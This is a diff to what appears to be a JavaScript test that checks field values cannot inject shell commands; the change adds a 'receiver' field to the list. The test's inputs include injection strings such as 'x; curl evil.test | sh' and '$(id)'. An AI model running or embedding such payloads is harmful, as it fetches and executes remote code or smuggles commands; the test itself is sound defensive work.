@@ -20,6 +20,7 @@ test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a 
         'kind',
         'party',
         'nonce',
+        'receiver',
       ]
       const values = Object.fromEntries(names.filter((name) => name !== 'scope').map((name) => [name, id]))
       expect(commandsOf(code, values)).toEqual(commandsOf(code, {}))
